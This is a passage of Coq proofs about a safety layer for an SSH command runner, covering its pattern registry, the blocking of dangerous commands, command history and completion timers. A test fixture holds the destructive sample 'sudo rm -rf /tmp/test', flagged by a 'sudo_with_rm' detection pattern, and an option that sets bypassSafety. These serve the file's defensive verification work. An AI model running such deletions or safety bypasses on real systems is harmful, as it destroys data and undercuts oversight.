  mkAnalysis "sudo rm -rf /tmp/test" true false true false
    ["[MEDIUM] Using sudo with rm"] None []
    [mkMatchedPattern "sudo_with_rm" "Using sudo with rm" "medium"].

(** A server configuration with a password and no sudo password. *)
Definition sample_config : ServerConfig (string * string) :=
  mkServerConfig (Some "correct horse") None ("example.org", "deploy").

(** The closure of the second of the two commands, before any output. *)
Definition pwd_closure : Closure :=
  mkClosure "pwd" no_options
    (mkAnalysis "pwd" true false false false [] None [] []) "" 0 false None.

(** [{ bypassSafety: true }] *)
Definition bypass_options : Options := mkOptions (Some true) None None.

(** The result of the command of [idle_completion_trace]. *)
Definition listing_result : Result := mkResult "ls -la" "total 0" 500 verdict_ls.

(** Three chunks of output, with the times at which they arrive. *)
Definition three_chunks : list (Z * string) :=
  [(100, "a"); (300, "b"); (700, "c")]%Z.

(* ------------------------------------------------------------------ *)
(** ** The pattern registry *)

Section RegistryFacts.
Context {engine : RegExpEngine}.

Lemma match_scan_filter (ps : list CompiledPattern) (command : string)
  (acc : list CompiledPattern) :
  match_scan ps command acc = acc ++ matching command ps.
Proof.
  revert acc. induction ps as [|p ps IH]; intros acc; simpl.
  - now rewrite app_nil_r.
  - rewrite IH. destruct (test (regex p) command); simpl.
    + now rewrite <- app_assoc.
    + reflexivity.
Qed.

Lemma whitelist_scan_existsb (ps : list CompiledPattern) (command : string) :
  whitelist_scan ps command = existsb (fun p => test (regex p) command) ps.
Proof.
  induction ps as [|p ps IH]; simpl; [reflexivity|].
  destruct (test (regex p) command); simpl; auto.
Qed.

Lemma isWhitelisted_spec (L : CommandPatternLoader) (command : string) :
  isWhitelisted L command
  = truthy (allow_whitelist_override (settings L))
    && existsb (fun p => test (regex p) command) (whitelistedPatterns L).
Proof.
  unfold isWhitelisted. rewrite whitelist_scan_existsb.
  destruct (truthy (allow_whitelist_override (settings L))); reflexivity.
Qed.

Lemma isSuspicious_matches (L : CommandPatternLoader) (command : string) :
  sr_matches (isSuspicious L command) = matching command (suspiciousPatterns L).
Proof. unfold isSuspicious; simpl. now rewrite match_scan_filter. Qed.

Lemma isSuspicious_flag (L : CommandPatternLoader) (command : string) :
  sr_suspicious (isSuspicious L command)
  = negb (Nat.eqb (length (matching command (suspiciousPatterns L))) 0).
Proof.
  unfold isSuspicious; simpl. rewrite match_scan_filter; simpl.
  now destruct (matching command (suspiciousPatterns L)).
Qed.

Lemma isDangerous_not_whitelisted (L : CommandPatternLoader) (command : string) :
  isWhitelisted L command = false ->
  isDangerous L command
  = mkDangerousResult
      (negb (Nat.eqb (length (matching command (dangerousPatterns L))) 0))
      (matching command (dangerousPatterns L)).
Proof.
  intros Hw. unfold isDangerous. rewrite Hw, match_scan_filter; simpl.
  now destruct (matching command (dangerousPatterns L)).
Qed.

Lemma has_severity_matching (command : string) (ps : list CompiledPattern) :
  Forall has_severity ps -> Forall has_severity (matching command ps).
Proof.
  intros H. unfold matching. rewrite Forall_forall in *.
  intros p Hp. apply filter_In in Hp. now apply H.
Qed.

(** The [forEach] loops of [analyzeCommand] add one warning and one audit
    entry per match, in order, when every match carries a severity. *)
Lemma push_matches_defined (ms : list CompiledPattern) :
  Forall has_severity ms ->
  forall ws mps,
  exists ws' mps',
    push_matches ms ws mps = Ok (ws ++ ws', mps ++ mps')
    /\ Forall2 warns_about ws' ms /\ Forall2 records mps' ms.
Proof.
  induction 1 as [|p ms Hp _ IH]; intros ws mps; simpl.
  - exists [], []. rewrite !app_nil_r. repeat split; constructor.
  - unfold has_severity in Hp. destruct (severity p) as [sev|] eqn:Hs; [|congruence].
    destruct (IH (ws ++ [warning_line sev (description p)])
                 (mps ++ [mkMatchedPattern (name p) (description p) sev]))
      as (ws' & mps' & Heq & Hw & Hr).
    exists (warning_line sev (description p) :: ws'),
           (mkMatchedPattern (name p) (description p) sev :: mps').
    rewrite Heq, <- !app_assoc. simpl. repeat split.
    + constructor; [|exact Hw]. exists sev. split; [exact Hs|reflexivity].
    + constructor; [|exact Hr]. repeat split. exact Hs.
Qed.

Lemma push_matches_throws (ms : list CompiledPattern) :
  Exists (fun p => severity p = None) ms ->
  forall ws mps, exists e, push_matches ms ws mps = Throw e.
Proof.
  induction 1 as [p ms Hp | p ms _ IH]; intros ws mps; simpl.
  - rewrite Hp. eexists. reflexivity.
  - destruct (severity p); [apply IH | eexists; reflexivity].
Qed.

End RegistryFacts.

(* ------------------------------------------------------------------ *)
(** ** The classifier *)

Section ClassifierFacts.
Context {engine : RegExpEngine}.



(** Severities are present in the built-in defaults and in every pattern
    added at run time, so every match carries one in a registry that was
    built by [loadDefaults] and [addPattern]; [compilePatterns] copies the
    severity of a configuration entry as it is, present or not. *)
Lemma has_severity_loadDefaults (L : CommandPatternLoader) :
  Forall has_severity (dangerousPatterns (loadDefaults L))
  /\ Forall has_severity (suspiciousPatterns (loadDefaults L)).
Proof. split; simpl; repeat constructor; discriminate. Qed.

Lemma has_severity_addPattern (type : string) (cfg : PatternConfig)
  (L : CommandPatternLoader) :
  Forall has_severity (dangerousPatterns L) ->
  Forall has_severity (suspiciousPatterns L) ->
  Forall has_severity (dangerousPatterns (fst (addPattern type cfg L)))
  /\ Forall has_severity (suspiciousPatterns (fst (addPattern type cfg L))).
Proof.
  intros Hd Hs. unfold addPattern.
  destruct (RegExp_new (cfg_pattern cfg) (compile_flags L)); [|now split].
  destruct (String.eqb type "dangerous");
    [|destruct (String.eqb type "suspicious");
      [|destruct (String.eqb type "whitelisted")]];
    simpl; split; auto; apply Forall_app; split; auto;
    repeat constructor; discriminate.
Qed.

(** C7.  [addPattern] with an expression that does not compile, or with a
    category other than dangerous, suspicious and whitelisted, returns
    [false] and leaves the registry as it was; otherwise it appends the
    compiled pattern to the collection of the named category, leaves the
    other two collections alone, and returns [true]. *)
Theorem addPattern_atomic (type : string) (cfg : PatternConfig)
  (L : CommandPatternLoader) :
  (regexp_valid (cfg_pattern cfg) = false \/ ~ In type categories ->
   addPattern type cfg L = (L, false))
  /\
  (regexp_valid (cfg_pattern cfg) = true -> In type categories ->
   let compiled :=
     mkCompiledPattern (cfg_name cfg)
       (mkRegExp (cfg_pattern cfg) (if truthy (case_sensitive (settings L)) then "" else "i"))
       (cfg_description cfg)
       (Some (or_default (cfg_severity cfg) "medium"))
       (or_nil (cfg_examples cfg)) in
   let L' := fst (addPattern type cfg L) in
   snd (addPattern type cfg L) = true
   /\ collection type L' = collection type L ++ [compiled]
   /\ (forall other, In other categories -> other <> type ->
       collection other L' = collection other L)
   /\ settings L' = settings L /\ patterns L' = patterns L).
Proof.
  split.
  - intros [Hbad | Hcat]; unfold addPattern, RegExp_new.
    + now rewrite Hbad.
    + destruct (regexp_valid (cfg_pattern cfg)); [|reflexivity].
      destruct (String.eqb_spec type "dangerous") as [->|_];
        [exfalso; apply Hcat; simpl; auto|].
      destruct (String.eqb_spec type "suspicious") as [->|_];
        [exfalso; apply Hcat; simpl; auto|].
      destruct (String.eqb_spec type "whitelisted") as [->|_];
        [exfalso; apply Hcat; simpl; auto|].
      reflexivity.
  - intros Hok Hcat. unfold addPattern, RegExp_new, compile_flags. rewrite Hok.
    destruct Hcat as [<-|[<-|[<-|[]]]]; simpl;
      (repeat split; try reflexivity;
       intros other [<-|[<-|[<-|[]]]] Hne; try reflexivity; congruence).
Qed.

End ClassifierFacts.

(* ------------------------------------------------------------------ *)
(** ** The session controller *)

Lemma slice_suffix {A : Type} (limit : Z) (l : list A) :
  (0 < limit)%Z ->
  (exists older, l = older ++ slice (- limit) l)
  /\ Z.of_nat (length (slice (- limit) l)) = Z.min limit (Z.of_nat (length l)).
Proof.
  intros Hpos. unfold slice.
  replace (- limit <? 0)%Z with true by (symmetry; apply Z.ltb_lt; lia).
  split.
  - eexists. symmetry. apply firstn_skipn.
  - rewrite length_skipn. lia.
Qed.

Lemma slice_zero {A : Type} (l : list A) : slice (- 0) l = l.
Proof.
  unfold slice. simpl.
  replace (Z.to_nat (Z.min 0 (Z.of_nat (length l)))) with 0%nat by lia.
  reflexivity.
Qed.

(** C10.  For [limit > 0], [getHistory(limit)] and [getOutput(limit)]
    return the last [min(limit, length)] entries in insertion order, the
    lists of the session being left as they are; for [limit = 0] they
    return the whole list. *)
Theorem history_window (s : Session) (limit : Z) :
  (0 < limit)%Z ->
  ((exists older, commandHistory s = older ++ getHistory (Some limit) s)
   /\ Z.of_nat (length (getHistory (Some limit) s))
      = Z.min limit (Z.of_nat (length (commandHistory s))))
  /\ ((exists older, outputBuffer s = older ++ getOutput (Some limit) s)
      /\ Z.of_nat (length (getOutput (Some limit) s))
         = Z.min limit (Z.of_nat (length (outputBuffer s))))
  /\ getHistory (Some 0%Z) s = commandHistory s
  /\ getOutput (Some 0%Z) s = outputBuffer s.
Proof.
  intros Hpos. unfold getHistory, getOutput.
  split; [now apply slice_suffix|].
  split; [now apply slice_suffix|].
  split; apply slice_zero.
Qed.

Section SessionFacts.
Context {engine : RegExpEngine}.

Lemma executeCommand_disconnected (command : string) (options : Options)
  (w : World) :
  connected (session w) = false ->
  fst (executeCommand command options w) = w.
Proof. intros H. unfold executeCommand. now rewrite H. Qed.

(** C8.  On a session that is not connected, [executeCommand] rejects with
    the not-connected error and changes nothing: no write to stdin, the
    history and the output buffer as before. *)
Theorem executeCommand_not_connected (command : string) (options : Options)
  (w : World) :
  connected (session w) = false ->
  let (w', outcome) := executeCommand command options w in
  outcome = Rejected (ErrorMsg "SSH session not connected")
  /\ w' = w
  /\ stdin w' = stdin w
  /\ commandHistory (session w') = commandHistory (session w)
  /\ outputBuffer (session w') = outputBuffer (session w).
Proof.
  intros H. unfold executeCommand. rewrite H. simpl. repeat split.
Qed.

(** What [executeCommand] does with a dangerous command on a session that
    blocks: it emits ['blocked'] and rejects with the blocked reason, writes
    nothing to stdin, and leaves the history as it was. *)
Lemma executeCommand_blocked (command : string) (options : Options) (w : World)
  (a : Analysis) :
  connected (session w) = true ->
  blockDangerousCommands (session w) = true ->
  truthy (bypassSafety options) = false ->
  analyzeCommand (patternLoader w) command = Ok a ->
  dangerous a = true ->
  executeCommand command options w
  = (emit (EvBlocked command a) w,
     Rejected (ErrorMsg ("Command blocked: " ++ template_text (blockedReason a)))).
Proof.
  intros Hc Hb Hby Ha Hd. unfold executeCommand.
  now rewrite Hc, Ha, Hd, Hb, Hby.
Qed.

(** A command that is let through: the state after the synchronous part of
    [executeCommand]. *)
Lemma executeCommand_allowed (command : string) (options : Options) (w : World)
  (a : Analysis) :
  connected (session w) = true ->
  analyzeCommand (patternLoader w) command = Ok a ->
  dangerous a && blockDangerousCommands (session w)
    && negb (truthy (bypassSafety options)) = false ->
  let w1 := if suspicious a then emit (EvWarning command a) w else w in
  let cid := length (closures w) in
  executeCommand command options w
  = (mkWorld (now w) (patternLoader w)
       (set_commandHistory
          (commandHistory (session w) ++ [mkCommandRecord command (now w) a true])
          (session w))
       (stdin w ++ [(command ++ newline)%string])
       (output_listeners w ++ [cid])
       (emitted w1)
       (closures w ++ [mkClosure command options a "" (now w) false None])
       (timers w ++ [mkTimer (next_timer w) (now w + timer_delay (ceiling options))
                             (MaxCb cid)])
       (S (next_timer w))
       (resolved w),
     Pending cid).
Proof.
  intros Hc Ha Hgate. unfold executeCommand. rewrite Hc, Ha, Hgate. simpl.
  destruct (suspicious a); reflexivity.
Qed.

End SessionFacts.

(* ------------------------------------------------------------------ *)
(** ** The completion detector *)

Lemma timer_delay_pos (d : Z) : (1 <= timer_delay d)%Z.
Proof.
  unfold timer_delay.
  destruct (1 <=? d)%Z eqn:H1; simpl; [|lia].
  destruct (d <=? 2147483647)%Z; [apply Z.leb_le in H1|]; lia.
Qed.

Lemma nth_error_update_nth_eq {A : Type} (f : A -> A) (l : list A) (i : nat) (x : A) :
  nth_error l i = Some x -> nth_error (update_nth i f l) i = Some (f x).
Proof.
  revert i. induction l as [|y l IH]; intros [|i] H; simpl in *; try discriminate.
  - now inversion H.
  - now apply IH.
Qed.

Lemma nth_error_update_nth_neq {A : Type} (f : A -> A) (l : list A) (i j : nat) :
  i <> j -> nth_error (update_nth i f l) j = nth_error l j.
Proof.
  revert i j. induction l as [|y l IH]; intros [|i] [|j] H; simpl; auto;
    try congruence.
Qed.

Lemma length_update_nth {A : Type} (f : A -> A) (l : list A) (i : nat) :
  length (update_nth i f l) = length l.
Proof.
  revert i. induction l as [|y l IH]; intros [|i]; simpl; auto.
Qed.

Lemma nth_error_snoc {A : Type} (l : list A) (x : A) :
  nth_error (l ++ [x]) (length l) = Some x.
Proof. rewrite nth_error_app2, Nat.sub_diag by lia. reflexivity. Qed.

(** The state reached by [completeCommand] on a closure that has not
    completed. *)
Lemma completeCommand_fresh (cid : nat) (w : World) (c : Closure) :
  nth_error (closures w) cid = Some c ->
  commandCompleted c = false ->
  let r := mkResult (cl_command c) (output c) (now w - startTime c) (cl_analysis c) in
  completeCommand cid w
  = mkWorld (now w) (patternLoader w) (session w) (stdin w)
      (rev (remove_first cid (rev (output_listeners w))))
      (emitted w ++ [EvExecuted r])
      (update_nth cid (set_commandCompleted true) (closures w))
      (match idleTimer c with
       | Some id => filter (fun t => negb (Nat.eqb (timer_id t) id)) (timers w)
       | None => timers w
       end)
      (next_timer w)
      (resolved w ++ [(cid, r)]).
Proof.
  intros Hc Hf. unfold completeCommand. rewrite Hc, Hf.
  destruct (idleTimer c); reflexivity.
Qed.

(** The guard of [completeCommand]: on a completed closure it does nothing. *)
Lemma completeCommand_completed (cid : nat) (w : World) (c : Closure) :
  nth_error (closures w) cid = Some c ->
  commandCompleted c = true ->
  completeCommand cid w = w.
Proof. intros Hc Hf. unfold completeCommand. now rewrite Hc, Hf. Qed.

Section DetectorFacts.
Context {engine : RegExpEngine}.

(** C3, as the code has it.  On a session with no timer pending, a
    command that is let through and produces no output is not completed at
    any time before the ceiling ([options.timeout || 30000] ms after the
    call), and is completed exactly then, with a duration equal to the
    ceiling: no idle timer exists before the first chunk of output. *)
Theorem silent_command_waits_for_ceiling (command : string) (options : Options)
  (w : World) (a : Analysis) :
  connected (session w) = true ->
  analyzeCommand (patternLoader w) command = Ok a ->
  dangerous a && blockDangerousCommands (session w)
    && negb (truthy (bypassSafety options)) = false ->
  timers w = [] ->
  let w1 := fst (executeCommand command options w) in
  let cid := length (closures w) in
  let wait := timer_delay (ceiling options) in
  pending_idle cid w1 = false
  /\ (forall t, (now w <= t < now w + wait)%Z ->
      resolved (advance t w1) = resolved w
      /\ exists c, nth_error (closures (advance t w1)) cid = Some c
                   /\ commandCompleted c = false)
  /\ resolved (advance (now w + wait) w1)
     = resolved w ++ [(cid, mkResult command "" wait a)].
Proof.
  intros Hc Ha Hgate Ht w1 cid wait.
  subst w1. rewrite (executeCommand_allowed _ _ _ Hc Ha Hgate). cbn [fst].
  rewrite Ht. cbn [app].
  pose proof (timer_delay_pos (ceiling options)) as Hpos. fold wait in Hpos.
  split; [reflexivity|]. split.
  - intros t [Hlo Hhi]. unfold advance. cbn [timers length run_timers earliest due].
    fold wait. replace (now w + wait <=? t)%Z with false
      by (symmetry; apply Z.leb_gt; lia).
    cbn [set_now resolved closures]. split; [reflexivity|].
    exists (mkClosure command options a "" (now w) false None).
    split; [apply nth_error_snoc | reflexivity].
  - unfold advance. cbn [timers length run_timers earliest due].
    fold wait. rewrite Z.leb_refl.
    unfold fire, clearTimeout, set_timers, set_now, run_callback.
    cbn [timer_id callback timers next_timer filter now closures patternLoader
         session stdin output_listeners emitted resolved].
    rewrite Nat.eqb_refl. cbn [negb].
    fold cid. unfold cid at 1 2. rewrite nth_error_snoc.
    cbn [commandCompleted negb].
    erewrite completeCommand_fresh;
      [|cbn [closures]; apply nth_error_snoc | reflexivity].
    cbn [resolved now cl_command output startTime cl_analysis].
    replace (Z.max (now w) (now w + wait) - now w)%Z with wait by lia.
    reflexivity.
Qed.

End DetectorFacts.

(* ------------------------------------------------------------------ *)
(** ** Completion happens once *)

(** Membership in a list extended by one element: the element is an old
    one, or the new one. *)
Ltac in_snoc H :=
  apply in_app_or in H; destruct H as [H|[<-|[]]].

Lemma remove_first_In (c x : nat) (l : list nat) :
  In x (remove_first c l) -> In x l.
Proof.
  induction l as [|y l IH]; simpl; [tauto|].
  destruct (Nat.eqb y c); simpl; intuition.
Qed.

Lemma remove_first_NoDup (c : nat) (l : list nat) :
  NoDup l -> NoDup (remove_first c l) /\ ~ In c (remove_first c l).
Proof.
  induction 1 as [|y l Hy Hl [IH1 IH2]]; simpl.
  - split; [constructor | tauto].
  - destruct (Nat.eqb_spec y c) as [->|Hne].
    + split; assumption.
    + split.
      * constructor; [|assumption]. intros Hin. apply Hy.
        now apply remove_first_In in Hin.
      * simpl. intros [Heq|Hin]; [congruence | tauto].
Qed.

Lemma detach_In (c x : nat) (l : list nat) :
  In x (rev (remove_first c (rev l))) -> In x l.
Proof.
  intros H. apply in_rev in H. apply remove_first_In in H. now apply in_rev.
Qed.

Lemma detach_NoDup (c : nat) (l : list nat) :
  NoDup l ->
  NoDup (rev (remove_first c (rev l))) /\ ~ In c (rev (remove_first c (rev l))).
Proof.
  intros H. apply NoDup_rev in H.
  destruct (remove_first_NoDup c H) as [H1 H2]. split.
  - now apply NoDup_rev.
  - intros Hin. apply H2. now apply in_rev.
Qed.

Lemma filter_snoc_length {A : Type} (f : A -> bool) (l : list A) (x : A) :
  length (filter f (l ++ [x])) = length (filter f l) + (if f x then 1 else 0).
Proof.
  rewrite filter_app, length_app. simpl. now destruct (f x).
Qed.

Lemma attached_false (cid : nat) (w : World) :
  ~ In cid (output_listeners w) -> attached cid w = false.
Proof.
  intros H. unfold attached. destruct (existsb _ _) eqn:E; [|reflexivity].
  apply existsb_exists in E. destruct E as (x & Hx & Heq).
  apply Nat.eqb_eq in Heq. subst x. contradiction.
Qed.

Lemma pending_idle_false (cid : nat) (w : World) :
  (forall t, In t (timers w) -> is_idle_of cid t = false) ->
  pending_idle cid w = false.
Proof.
  intros H. unfold pending_idle. destruct (existsb _ _) eqn:E; [|reflexivity].
  apply existsb_exists in E. destruct E as (t & Ht & Hidle).
  rewrite (H t Ht) in Hidle. discriminate.
Qed.

(** The state reached by [outputHandler] on an existing closure. *)
Lemma outputHandler_eq (cid : nat) (data : string) (w : World) (c : Closure) :
  nth_error (closures w) cid = Some c ->
  outputHandler cid data w
  = mkWorld (now w) (patternLoader w) (session w) (stdin w) (output_listeners w)
      (if truthy (streaming (cl_options c))
       then emitted w ++ [EvStream data] else emitted w)
      (update_nth cid (set_idleTimer (Some (next_timer w)))
         (update_nth cid (fun c' => set_output (output c' ++ data)%string c')
            (closures w)))
      ((match idleTimer c with
        | Some id => filter (fun t => negb (Nat.eqb (timer_id t) id)) (timers w)
        | None => timers w
        end) ++ [mkTimer (next_timer w) (now w + timer_delay 500) (IdleCb cid)])
      (S (next_timer w))
      (resolved w).
Proof.
  intros Hc. unfold outputHandler. rewrite Hc.
  destruct (truthy (streaming (cl_options c))); destruct (idleTimer c); reflexivity.
Qed.

Lemma outputHandler_missing (cid : nat) (data : string) (w : World) :
  nth_error (closures w) cid = None -> outputHandler cid data w = w.
Proof. intros Hc. unfold outputHandler. now rewrite Hc. Qed.

Lemma outputHandler_frame (cid : nat) (data : string) (w : World) :
  output_listeners (outputHandler cid data w) = output_listeners w
  /\ resolved (outputHandler cid data w) = resolved w
  /\ length (closures (outputHandler cid data w)) = length (closures w)
  /\ forall other, other <> cid ->
       nth_error (closures (outputHandler cid data w)) other
       = nth_error (closures w) other.
Proof.
  destruct (nth_error (closures w) cid) as [c|] eqn:Hc.
  - rewrite (outputHandler_eq _ _ _ Hc). cbn [output_listeners resolved closures].
    rewrite !length_update_nth. repeat split.
    intros other Hne. now rewrite !nth_error_update_nth_neq by congruence.
  - rewrite (outputHandler_missing _ _ _ Hc). repeat split.
Qed.

Lemma pending_filtered (o : option nat) (ts : list Timer) (t : Timer) :
  In t (match o with
        | Some id' => filter (fun t' => negb (Nat.eqb (timer_id t') id')) ts
        | None => ts
        end) ->
  In t ts /\ o <> Some (timer_id t).
Proof.
  destruct o as [id'|]; intros H.
  - apply filter_In in H. destruct H as [Hin Hne]. split; [assumption|].
    intros Heq. inversion Heq; subst. rewrite Nat.eqb_refl in Hne. discriminate.
  - split; [assumption | discriminate].
Qed.

Lemma is_idle_of_other (cid other : nat) (t : Timer) :
  is_idle_of cid t = true -> other <> cid -> is_idle_of other t = false.
Proof.
  unfold is_idle_of. destruct (callback t) as [c|c]; [|discriminate].
  intros H Hne. apply Nat.eqb_eq in H. subst c. now apply Nat.eqb_neq.
Qed.

Lemma consistent_new_world (L : CommandPatternLoader) : consistent (new_world L).
Proof.
  unfold consistent. simpl. split; [|split; [|split]].
  - intros [|cid] c H; discriminate.
  - intros cid _. unfold completions; simpl. repeat split; tauto.
  - constructor.
  - reflexivity.
Qed.

Lemma consistent_timers_shrink (w : World) (ts : list Timer) (n : nat) :
  consistent w ->
  (forall t, In t ts -> In t (timers w)) ->
  consistent (set_timers ts n w).
Proof.
  intros (H1 & H2 & H3 & H4) Hsub.
  split; [|split; [|split]]; simpl; try assumption.
  - intros cid c Hc. destruct (H1 cid c Hc) as (Ha & Hb & Hd).
    split; [exact Ha|]. split.
    + intros Hf. destruct (Hb Hf) as [Hb1 Hb2]. split; [exact Hb1|].
      intros t Ht. apply Hb2. now apply Hsub.
    + intros t Ht. apply Hd. now apply Hsub.
  - intros cid Hlen. destruct (H2 cid Hlen) as (Ha & Hb & Hd).
    split; [exact Ha|]. split; [exact Hb|].
    intros t Ht. apply Hd. now apply Hsub.
Qed.

Lemma consistent_clearTimeout (w : World) (id : nat) :
  consistent w -> consistent (clearTimeout id w).
Proof.
  intros H. apply consistent_timers_shrink; [assumption|].
  intros t Ht. apply filter_In in Ht. tauto.
Qed.

Lemma consistent_completeCommand (w : World) (cid : nat) :
  consistent w -> consistent (completeCommand cid w).
Proof.
  intros Hw. destruct (nth_error (closures w) cid) as [c|] eqn:Hc;
    [|unfold completeCommand; now rewrite Hc].
  destruct (commandCompleted c) eqn:Hf;
    [now rewrite (completeCommand_completed _ _ Hc Hf)|].
  rewrite (completeCommand_fresh _ _ Hc Hf).
  destruct Hw as (H1 & H2 & H3 & H4).
  destruct (detach_NoDup cid H3) as [Hnd Hnin].
  destruct (H1 cid c Hc) as (Hcount & _ & Hidle). rewrite Hf in Hcount.
  set (ts' := match idleTimer c with
              | Some id => filter (fun t' => negb (Nat.eqb (timer_id t') id)) (timers w)
              | None => timers w
              end).
  assert (Hsub : forall t, In t ts' -> In t (timers w))
    by (intros t Ht; now apply pending_filtered in Ht).
  assert (Hnone : forall t, In t ts' -> is_idle_of cid t = false).
  { intros t Ht. apply pending_filtered in Ht. destruct Ht as [Hin Hne].
    destruct (is_idle_of cid t) eqn:E; [|reflexivity].
    exfalso. apply Hne. now apply Hidle. }
  assert (Hcnt : forall cid' r,
             length (filter (fun x : nat * Result => Nat.eqb (fst x) cid')
                            (resolved w ++ [(cid, r)]))
             = completions cid' w + (if Nat.eqb cid cid' then 1 else 0)).
  { intros cid' r. unfold completions. now rewrite filter_snoc_length. }
  split; [|split; [|split]]; unfold closure_ok, completions;
    cbn [closures timers output_listeners resolved emitted].
  - intros cid' c' Hc'. rewrite Hcnt.
    destruct (Nat.eq_dec cid cid') as [<-|Hne].
    + rewrite (nth_error_update_nth_eq _ _ _ Hc) in Hc'. inversion Hc'; subst c'.
      cbn [commandCompleted set_commandCompleted idleTimer].
      rewrite Nat.eqb_refl, Hcount. split; [reflexivity|]. split.
      * intros _. split; [exact Hnin | exact Hnone].
      * intros t Ht Hidle'. rewrite (Hnone t Ht) in Hidle'. discriminate.
    + rewrite nth_error_update_nth_neq in Hc' by assumption.
      destruct (H1 cid' c' Hc') as (Ha & Hb & Hd).
      replace (Nat.eqb cid cid') with false by (symmetry; now apply Nat.eqb_neq).
      rewrite Nat.add_0_r. split; [exact Ha|]. split.
      * intros Hf'. destruct (Hb Hf') as [Hb1 Hb2]. split.
        -- intros Hin. apply detach_In in Hin. contradiction.
        -- intros t Ht. apply Hb2. now apply Hsub.
      * intros t Ht. apply Hd. now apply Hsub.
  - intros cid' Hlen. rewrite length_update_nth in Hlen. rewrite Hcnt.
    assert (Hne : cid <> cid').
    { assert (cid < length (closures w)) by (apply nth_error_Some; congruence). lia. }
    destruct (H2 cid' Hlen) as (Ha & Hb & Hd).
    replace (Nat.eqb cid cid') with false by (symmetry; now apply Nat.eqb_neq).
    rewrite Nat.add_0_r. split; [exact Ha|]. split.
    + intros Hin. apply detach_In in Hin. contradiction.
    + intros t Ht. apply Hd. now apply Hsub.
  - exact Hnd.
  - rewrite filter_snoc_length, length_app. simpl. lia.
Qed.

Lemma consistent_run_callback (w : World) (cb : Callback) :
  consistent w -> consistent (run_callback cb w).
Proof.
  intros H. destruct cb as [cid|cid]; simpl;
    (destruct (nth_error (closures w) cid) as [c|]; [|assumption];
     destruct (commandCompleted c); simpl;
     [assumption | now apply consistent_completeCommand]).
Qed.

Lemma consistent_outputHandler (w : World) (lid : nat) (data : string) :
  consistent w -> In lid (output_listeners w) ->
  consistent (outputHandler lid data w).
Proof.
  intros Hw Hin. destruct (nth_error (closures w) lid) as [c|] eqn:Hc;
    [|now rewrite (outputHandler_missing _ _ _ Hc)].
  rewrite (outputHandler_eq _ _ _ Hc).
  destruct Hw as (H1 & H2 & H3 & H4).
  destruct (H1 lid c Hc) as (Hcount & Hdone & Hidle).
  assert (Hf : commandCompleted c = false).
  { destruct (commandCompleted c); [|reflexivity].
    destruct (Hdone eq_refl) as [Hnin _]. contradiction. }
  rewrite Hf in Hcount.
  set (ts' := match idleTimer c with
              | Some id => filter (fun t' => negb (Nat.eqb (timer_id t') id)) (timers w)
              | None => timers w
              end).
  set (new := mkTimer (next_timer w) (now w + timer_delay 500) (IdleCb lid)).
  assert (Hsub : forall t, In t ts' -> In t (timers w))
    by (intros t Ht; now apply pending_filtered in Ht).
  assert (Hnone : forall t, In t ts' -> is_idle_of lid t = false).
  { intros t Ht. apply pending_filtered in Ht. destruct Ht as [Hin' Hne].
    destruct (is_idle_of lid t) eqn:E; [|reflexivity].
    exfalso. apply Hne. now apply Hidle. }
  assert (Hnew : forall cid', lid <> cid' -> is_idle_of cid' new = false)
    by (intros cid' Hne; unfold is_idle_of; simpl; now apply Nat.eqb_neq).
  split; [|split; [|split]]; unfold closure_ok, completions;
    cbn [closures timers output_listeners resolved emitted].
  - intros cid' c' Hc'. destruct (Nat.eq_dec lid cid') as [<-|Hne].
    + erewrite nth_error_update_nth_eq in Hc'
        by (apply nth_error_update_nth_eq; exact Hc).
      inversion Hc'; subst c'.
      cbn [commandCompleted set_idleTimer set_output idleTimer].
      rewrite Hf. split; [exact Hcount|]. split; [discriminate|].
      intros t Ht Hidle'. in_snoc Ht.
      * rewrite (Hnone t Ht) in Hidle'. discriminate.
      * reflexivity.
    + rewrite !nth_error_update_nth_neq in Hc' by assumption.
      destruct (H1 cid' c' Hc') as (Ha & Hb & Hd).
      split; [exact Ha|]. split.
      * intros Hf'. destruct (Hb Hf') as [Hb1 Hb2]. split; [exact Hb1|].
        intros t Ht. in_snoc Ht.
        -- apply Hb2. now apply Hsub.
        -- now apply Hnew.
      * intros t Ht Hidle'. in_snoc Ht.
        -- apply Hd; [now apply Hsub | exact Hidle'].
        -- rewrite (Hnew cid' Hne) in Hidle'. discriminate.
  - intros cid' Hlen. rewrite !length_update_nth in Hlen.
    assert (Hne : lid <> cid').
    { assert (lid < length (closures w)) by (apply nth_error_Some; congruence). lia. }
    destruct (H2 cid' Hlen) as (Ha & Hb & Hd).
    split; [exact Ha|]. split; [exact Hb|].
    intros t Ht. in_snoc Ht.
    + apply Hd. now apply Hsub.
    + now apply Hnew.
  - exact H3.
  - destruct (truthy (streaming (cl_options c))); [|exact H4].
    rewrite filter_snoc_length. simpl. lia.
Qed.

(** Delivering one chunk to the attached handlers. *)
Lemma deliver_consistent (data : string) (l : list nat) (w : World) :
  consistent w ->
  (forall lid, In lid l -> In lid (output_listeners w)) ->
  consistent (fold_left (fun w' cid => outputHandler cid data w') l w).
Proof.
  revert w. induction l as [|lid l IH]; intros w Hw Hsub; simpl; [assumption|].
  apply IH.
  - apply consistent_outputHandler; [assumption|]. apply Hsub. now left.
  - intros x Hx. destruct (outputHandler_frame lid data w) as (-> & _).
    apply Hsub. now right.
Qed.

Lemma deliver_frame (data : string) (cid : nat) (l : list nat) (w : World) :
  ~ In cid l ->
  nth_error (closures (fold_left (fun w' c => outputHandler c data w') l w)) cid
  = nth_error (closures w) cid
  /\ resolved (fold_left (fun w' c => outputHandler c data w') l w) = resolved w.
Proof.
  revert w. induction l as [|lid l IH]; intros w Hnin; simpl; [split; reflexivity|].
  destruct (IH (outputHandler lid data w)) as [Hc Hr]; [simpl in Hnin; tauto|].
  destruct (outputHandler_frame lid data w) as (_ & Hres & _ & Hoth).
  rewrite Hc, Hr, Hres, Hoth; [split; reflexivity|].
  simpl in Hnin. intros ->. tauto.
Qed.

Lemma consistent_emit_other (e : Event) (w : World) :
  is_executed e = false -> consistent w -> consistent (emit e w).
Proof.
  intros He (H1 & H2 & H3 & H4).
  split; [|split; [|split]]; simpl; try assumption.
  rewrite filter_snoc_length, He. lia.
Qed.

Lemma consistent_on_stdout (data : string) (w : World) :
  consistent w -> consistent (on_stdout data w).
Proof.
  intros Hw. unfold on_stdout. apply deliver_consistent.
  - apply consistent_emit_other; [reflexivity|]. exact Hw.
  - intros lid Hin. exact Hin.
Qed.

Lemma NoDup_snoc {A : Type} (l : list A) (x : A) :
  NoDup l -> ~ In x l -> NoDup (l ++ [x]).
Proof.
  intros Hl Hx. apply NoDup_rev in Hl. rewrite <- (rev_involutive (l ++ [x])).
